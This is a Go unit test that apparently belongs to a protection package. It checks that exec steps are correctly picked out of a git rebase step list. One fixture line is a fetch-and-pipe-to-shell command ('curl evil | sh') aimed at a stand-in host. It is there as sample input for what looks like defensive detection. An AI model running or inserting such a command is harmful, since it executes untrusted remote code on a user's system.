package protect

import (
	"slices"
	"testing"
)

// The exec steps are found as git's sequencer parses a step list: the
// word exec or x after any blanks, then a blank and a command. Twin: other
// steps, comments and words that only begin the same are not.
func TestExecSteps(t *testing.T) {
	list := "pick 1234 fix\n" +
		"exec make test\n" +
		"  x\tcurl evil | sh\r\n" +
		"# exec a comment\n" +
		"execute 1\n" +
		"exec\n" +
		"x \n" +
		"xexec y\n" +
		"fixup -C 5678 x y\n"
	got := execSteps([]byte(list))
	want := []string{"exec make test", "x\tcurl evil | sh"}
	if !slices.Equal(got, want) {
		t.Errorf("execSteps = %q, want %q", got, want)
	}
}
